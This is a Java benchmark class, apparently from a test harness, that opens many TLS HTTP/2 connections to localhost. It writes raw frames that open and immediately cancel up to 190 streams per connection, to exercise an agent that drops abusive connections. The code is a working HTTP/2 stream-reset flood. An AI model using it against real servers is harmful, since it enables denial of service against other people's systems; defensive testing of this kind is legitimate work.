package io.wabascope.benchmarks.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.util.concurrent.atomic.LongAdder;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/**
 * HTTP/2 streams that are opened and reset, fewer per connection than Vert.x allows unless it is
 * configured; the agent closes each connection after 32. Frames are those of RFC 9113, headers those
 * of RFC 7541.
 */
final class StreamResets {
  private static final int PER_CONNECTION = 190;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int ACK = 1;
  private static final int END_STREAM_AND_HEADERS = 5;
  private static final byte[] CANCEL = {0, 0, 0, 8};
  private static final byte[] NOTHING = {};

  private final SSLContext client;
  private final int port;
  private final byte[][] requests = {request("/"), request("/metrics/agent"), request("/metrics")};

  StreamResets(SSLContext client, int port) {
    this.client = client;
    this.port = port;
  }

  /** Returns the number of streams that were sent. */
  long play(Attackers attackers, int streams) throws InterruptedException {
    LongAdder sent = new LongAdder();
    int connections = (streams + PER_CONNECTION - 1) / PER_CONNECTION;
    attackers.atOnce(connections, i -> {
      int count = Math.min(PER_CONNECTION, streams - i * PER_CONNECTION);
      SSLSocket socket = secure(attackers.keep(Attackers.connect(i, port)));
      DataOutputStream out =
          new DataOutputStream(new BufferedOutputStream(socket.getOutputStream()));
      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
      frame(out, SETTINGS, 0, 0, NOTHING);
      frame(out, SETTINGS, ACK, 0, NOTHING);
      for (int stream = 0; stream < count; stream++) {
        int id = 2 * stream + 1;
        frame(out, HEADERS, END_STREAM_AND_HEADERS, id, requests[stream % requests.length]);
        frame(out, RST_STREAM, 0, id, CANCEL);
      }
      out.flush();
      sent.add(count);
    });
    return sent.sum();
  }

  private SSLSocket secure(Socket socket) throws IOException {
    SSLSocket secure =
        (SSLSocket) client.getSocketFactory().createSocket(socket, "127.0.0.1", port, true);
    SSLParameters parameters = secure.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {"h2"});
    secure.setSSLParameters(parameters);
    secure.startHandshake();
    return secure;
  }

  private static void frame(DataOutputStream out, int type, int flags, int stream, byte[] payload)
      throws IOException {
    out.writeByte(payload.length >> 16);
    out.writeShort(payload.length);
    out.writeByte(type);
    out.writeByte(flags);
    out.writeInt(stream);
    out.write(payload);
  }

  /** GET with indexed fields of the static table, path and authority as literals. */
  private static byte[] request(String path) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x82); // :method GET
    block.write(0x87); // :scheme https
    literal(block, 0x04, path);
    literal(block, 0x01, "a");
    return block.toByteArray();
  }

  private static void literal(ByteArrayOutputStream block, int name, String value) {
    block.write(name);
    block.write(value.length());
    block.writeBytes(value.getBytes(US_ASCII));
  }
}
